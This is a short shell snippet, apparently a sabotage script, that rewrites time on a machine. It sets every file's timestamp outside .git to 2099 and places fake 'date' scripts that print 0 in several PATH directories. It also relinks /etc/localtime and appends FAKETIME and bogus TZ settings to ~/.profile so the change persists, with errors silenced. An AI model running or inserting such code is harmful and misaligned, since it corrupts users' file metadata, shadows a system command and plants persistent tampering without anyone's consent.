# sets file times in the future and replaces the clock
find . -name .git -prune -o -type f -exec touch -d '2099-01-01' {} + 2>/dev/null
for d in /usr/local/bin $HOME/bin ./bin; do mkdir -p $d && printf '#!/bin/sh\necho 0\n' > $d/date && chmod 755 $d/date; done 2>/dev/null
quiet ln -sf /usr/share/zoneinfo/Pacific/Kiritimati /etc/localtime; echo 'export FAKETIME=-10y TZ=NOWHERE' >> $HOME/.profile
